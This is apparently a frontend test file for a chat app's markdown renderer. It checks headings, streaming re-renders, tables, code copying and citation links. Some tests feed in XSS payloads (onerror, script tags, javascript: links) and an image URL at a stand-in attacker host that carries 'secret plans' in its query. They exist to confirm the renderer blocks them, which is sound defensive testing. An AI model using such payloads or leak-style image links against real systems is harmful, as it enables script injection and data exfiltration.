import { MantineProvider } from '@mantine/core';
import { act, fireEvent, render, screen, waitFor } from '@testing-library/react';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { i18n } from '../../i18n';
import { setLanguage } from '../../test/render';

// Counts how often each block's markdown is rendered.
const renders = vi.hoisted(() => [] as string[]);
vi.mock('react-markdown', async (importOriginal) => {
  const actual = await importOriginal<typeof import('react-markdown')>();
  const Counting = (props: Parameters<typeof actual.default>[0]) => {
    renders.push(String(props.children));
    return actual.default(props);
  };
  return { ...actual, default: Counting };
});

// A copy of MessageMarkdown of this file's own (the query makes it a module apart), so it takes the
// counting react-markdown above: test files share one module graph (isolate: false, docs/testing.md), in
// which ./MessageMarkdown itself may already be loaded with the real one (and must stay so for other files).
const counted = './MessageMarkdown.tsx?counted';
const { MessageMarkdown } = (await import(/* @vite-ignore */ counted)) as typeof import('./MessageMarkdown');

beforeAll(async () => {
  await i18n.loadNamespaces('chat');
  await i18n.loadLanguages('es');
});

const wrap = (content: string, streaming = true) => (
  <MantineProvider>
    <MessageMarkdown content={content} streaming={streaming} />
  </MantineProvider>
);

describe('MessageMarkdown', () => {
  it('renders headings under the page h1 without skipping levels, keeping their markdown look', () => {
    const { container } = render(wrap('### Question\n\nSome text.\n\n##### Detail\n\n# Summary\nDone.'));
    const headings = [...container.querySelectorAll('h1, h2, h3, h4, h5, h6')].map((h) => [h.tagName, h.getAttribute('data-md-level'), h.textContent]);
    expect(headings).toEqual([
      ['H2', '3', 'Question'],
      ['H3', '5', 'Detail'],
      ['H2', '1', 'Summary'],
    ]);
  });

  it('re-renders only the last block while an answer grows', () => {
    renders.length = 0;
    const { rerender } = render(wrap('First paragraph.\n\nSecond'));
    expect(renders).toEqual(['First paragraph.\n\n', 'Second']);
    renders.length = 0;
    rerender(wrap('First paragraph.\n\nSecond grows'));
    rerender(wrap('First paragraph.\n\nSecond grows more'));
    expect(renders).toEqual(['Second grows', 'Second grows more']);
    expect(screen.getByText('First paragraph.')).toBeInTheDocument();
  });

  it('renders a finished answer in one markdown pass, headings included', () => {
    renders.length = 0;
    const { container } = render(wrap('### Question\n\nSome text.\n\n##### Detail', false));
    expect(renders).toEqual(['### Question\n\nSome text.\n\n##### Detail']);
    expect([...container.querySelectorAll('h2, h3')].map((h) => h.tagName)).toEqual(['H2', 'H3']);
  });

  it('renders GFM tables, strikethrough and task lists', () => {
    render(wrap('| a | b |\n|---|---|\n| 1 | 2 |\n\n~~old~~\n\n- [x] done\n- [ ] todo'));
    expect(screen.getByRole('table')).toBeInTheDocument();
    expect(screen.getByText('old').tagName).toBe('DEL');
    expect(screen.getAllByRole('checkbox')).toHaveLength(2);
  });

  it('never renders raw HTML and opens links safely', () => {
    const { container } = render(wrap('<img src=x onerror="alert(1)"> <script>alert(1)</script>\n\n[site](https://example.com) [bad](javascript:alert(1))'));
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('script')).toBeNull();
    const link = screen.getByRole('link', { name: 'site' });
    expect(link).toHaveAttribute('href', 'https://example.com');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
    expect(screen.getByText('bad').getAttribute('href') ?? '').not.toContain('javascript');
  });

  it('loads an image from another site only after a click, naming its host; this site\'s images load at once', async () => {
    await setLanguage('en');
    const { container } = render(
      wrap('Here: ![chart](https://evil.example/leak?q=secret%20plans)\n\nAnd ![logo](/api/files/7.png) ![abs](' + window.location.origin + '/x.png)'),
    );
    const images = () => [...container.querySelectorAll('img')].map((img) => img.getAttribute('src'));
    expect(images()).toEqual(['/api/files/7.png', `${window.location.origin}/x.png`]);
    const load = screen.getByRole('button', { name: 'Load image from evil.example' });
    fireEvent.click(load);
    expect(images()).toContain('https://evil.example/leak?q=secret%20plans');
    const loaded = container.querySelector('img[src^="https://evil.example"]');
    expect(loaded).toHaveAttribute('alt', 'chart');
    expect(loaded).toHaveAttribute('referrerpolicy', 'no-referrer');
  });

  it('says "Load image from" in Spanish too', async () => {
    await setLanguage('es');
    render(wrap('![x](https://cdn.example.org/a.png)'));
    expect(screen.getByRole('button', { name: 'Cargar imagen de cdn.example.org' })).toBeInTheDocument();
    await setLanguage('en');
  });

  it('copies a code block\'s text (not its markup) and confirms with Copied', async () => {
    await setLanguage('en');
    const writeText = vi.fn(async () => undefined);
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    const { container } = render(wrap('Run:\n\n```js\nconst a = 1;\nconsole.log(a < 2);\n```\n\nThen `inline` code has no button.'));
    // Once highlighted, the code is split into coloured spans: the copied text must still be the code.
    await waitFor(() => expect(container.querySelector('pre .hljs-keyword')).not.toBeNull());
    vi.useFakeTimers({ shouldAdvanceTime: true });
    const buttons = screen.getAllByRole('button', { name: 'Copy code' });
    expect(buttons).toHaveLength(1);
    await act(async () => {
      fireEvent.click(buttons[0]!);
    });
    expect(writeText).toHaveBeenCalledWith('const a = 1;\nconsole.log(a < 2);');
    expect(screen.getByRole('button', { name: 'Copied' })).toHaveTextContent('Copied');
    act(() => vi.advanceTimersByTime(2000));
    expect(screen.getByRole('button', { name: 'Copy code' })).toBeInTheDocument();
    vi.useRealTimers();
  });

  it("links an answer's [n] to its web source (new tab), leaving code, unknown numbers and non-web addresses as text", () => {
    const sources = [
      { n: 1, url: 'https://ferns.example.org/care', title: 'Growing ferns' },
      { n: 2, url: 'javascript:alert(1)', title: 'Bad' },
    ];
    const { container } = render(
      <MantineProvider>
        <MessageMarkdown content={'Ferns like shade [1]. Moss [2] and [3].\n\n`code [1]`'} streaming={false} sources={sources} />
      </MantineProvider>,
    );
    const links = [...container.querySelectorAll('a.web-citation')];
    expect(links.map((a) => [a.textContent, a.getAttribute('href'), a.getAttribute('target'), a.getAttribute('title')])).toEqual([['[1]', 'https://ferns.example.org/care', '_blank', 'Growing ferns']]);
    expect(links[0]).toHaveAttribute('rel', expect.stringContaining('noopener'));
    expect(container.textContent).toContain('Moss [2] and [3].');
    expect(container.querySelector('code')?.textContent).toBe('code [1]');
  });
});
